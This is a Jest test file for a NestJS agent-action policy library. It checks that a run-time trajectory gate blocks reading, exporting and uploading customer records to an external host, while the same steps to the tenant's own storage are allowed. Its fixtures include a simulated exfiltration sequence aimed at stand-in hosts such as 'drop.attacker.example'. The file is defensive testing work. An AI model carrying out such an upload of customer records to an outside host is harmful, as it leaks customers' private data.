import { afterEach, describe, expect, it } from '@jest/globals';
import { Test } from '@nestjs/testing';
import {
  ActionContextStore,
  type DecisionRecord,
  InMemoryEvidenceRecorder,
  InMemoryTrajectoryStore,
  MissingTrajectoryError,
  type TrajectoryStore,
  VerdictConfigurationError,
  VerdictModule,
  VerdictPipeline,
  VerdictService,
} from '@verdict/nestjs';
import { DataSource } from 'typeorm';
import { RecordsCapabilities, RecordsCapability, StorefrontAbilityFactory, openSqliteStorefront, storefrontContext } from '../index.js';

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  while (cleanups.length > 0) await cleanups.pop()!();
});

async function boot({ trajectories }: { trajectories?: TrajectoryStore } = { trajectories: new InMemoryTrajectoryStore() }) {
  const dataSource = await openSqliteStorefront();
  cleanups.push(() => dataSource.destroy());
  const evidence = new InMemoryEvidenceRecorder();
  const moduleRef = await Test.createTestingModule({
    imports: [VerdictModule.forRoot({ abilityFactory: new StorefrontAbilityFactory(dataSource), evidence, trajectories })],
    providers: [{ provide: DataSource, useValue: dataSource }, RecordsCapabilities],
  }).compile();
  await moduleRef.init();
  cleanups.push(() => moduleRef.close());
  const verdict = moduleRef.get(VerdictService);
  const contexts = moduleRef.get(ActionContextStore);
  const outbox = moduleRef.get(RecordsCapabilities).outbox;
  /** Runs `capability` for customer 72 at acme in `conversation`; answers executed or the internal reason. */
  const call = async (conversation: string | undefined, capability: string, args: object = {}) => {
    const result = await contexts.run(storefrontContext(72, 'acme', conversation), () => verdict.execute({ capability, arguments: args }));
    return result.executed ? 'executed' : `${result.decision.stage}: ${result.decision.reason}`;
  };
  const pipeline = moduleRef.get(VerdictPipeline);
  /** The migration bridge: the capability's checks (steps 1–3, 10a, 11, 13) around a legacy handler. */
  const guarded = (conversation: string, capability: string, args: object, handler: () => Promise<string>) =>
    contexts.run(storefrontContext(72, 'acme', conversation), () => pipeline.guard({ capability, arguments: args }, handler));
  return { call, outbox, evidence, guarded };
}

const steps = (host: string, to: string): Array<[string, object]> => [
  [RecordsCapability.ReadRecords, {}],
  [RecordsCapability.ExportRecords, {}],
  [RecordsCapability.UploadExport, { host }],
  [RecordsCapability.SendLink, { to, link: `https://${host}/shared/records-72.zip` }],
];

describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)', () => {
  it('stops read → export → upload to an external host before the upload executes; nothing leaves', async () => {
    const { call, outbox, evidence } = await boot();
    const outcomes = [];
    for (const [capability, args] of steps('drop.attacker.example', 'collector@attacker.example'))
      outcomes.push(await call('conversation-1', capability, args));

    expect(outcomes).toEqual(['executed', 'executed', 'execution: forbidden state: customer_records_exfiltrated', 'executed']);
    // The link message went out (it carries no records: the upload never happened), the archive did not.
    expect(outbox.list().map((item) => `${item.kind} ${item.destination}`)).toEqual(['message external:attacker.example']);
    // Evidence names the predicate, never the destination.
    const denied = evidence.decisions().find((record: DecisionRecord) => record.disposition === 'deny')!;
    expect(denied).toMatchObject({ capability: 'files.upload', stage: 'execution', reason: 'forbidden state: customer_records_exfiltrated' });
    expect(JSON.stringify(evidence.decisions())).not.toContain('attacker');
  });

  it('permits the paired legitimate workflow: the export goes to the tenant’s own storage and the link stays inside', async () => {
    const { call, outbox } = await boot();
    const outcomes = [];
    for (const [capability, args] of steps('files.acme.example', 'colleague@acme.example')) outcomes.push(await call('conversation-1', capability, args));

    expect(outcomes).toEqual(['executed', 'executed', 'executed', 'executed']);
    expect(outbox.external()).toEqual([]);
    expect(outbox.list()).toHaveLength(2);
  });

  it('is order-sensitive: an upload before the records were read and exported holds no records', async () => {
    const { call, outbox } = await boot();
    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('executed');
    expect(await call('c', RecordsCapability.ReadRecords)).toBe('executed');
    expect(await call('c', RecordsCapability.ExportRecords)).toBe('executed');
    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('execution: forbidden state: customer_records_exfiltrated');
    expect(outbox.external()).toHaveLength(1);
  });

  it('folds each conversation on its own: records read in one conversation do not taint another', async () => {
    const { call } = await boot();
    await call('first', RecordsCapability.ReadRecords);
    await call('first', RecordsCapability.ExportRecords);

    expect(await call('second', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('executed');
    expect(await call('first', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
      'execution: forbidden state: customer_records_exfiltrated',
    );
  });

  it('keeps denying: a refused effect is not stored, and the forbidden step stays forbidden on every retry', async () => {
    const { call, outbox } = await boot();
    await call('c', RecordsCapability.ReadRecords);
    await call('c', RecordsCapability.ExportRecords);
    for (let i = 0; i < 3; i++)
      expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
        'execution: forbidden state: customer_records_exfiltrated',
      );
    expect(await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
    expect(outbox.external()).toEqual([]);
  });

  it('applies to guarded (migration bridge) tools too: the legacy handler never runs for the forbidden step', async () => {
    const { call, guarded } = await boot();
    await call('c', RecordsCapability.ReadRecords);
    await call('c', RecordsCapability.ExportRecords);
    let legacyUploads = 0;
    const result = await guarded('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' }, async () => `uploaded ${++legacyUploads}`);

    expect(result).toMatchObject({ executed: false, decision: { stage: 'execution', reason: 'forbidden state: customer_records_exfiltrated' } });
    expect(legacyUploads).toBe(0);
  });

  it('fails as a wiring fault, never a decision, when the context names no conversation', async () => {
    const { call, outbox } = await boot();
    await expect(call(undefined, RecordsCapability.ReadRecords)).rejects.toBeInstanceOf(MissingTrajectoryError);
    expect(outbox.list()).toEqual([]);
  });

  it('refuses to boot without a trajectory store', async () => {
    await expect(boot({})).rejects.toThrow(VerdictConfigurationError);
  });
});
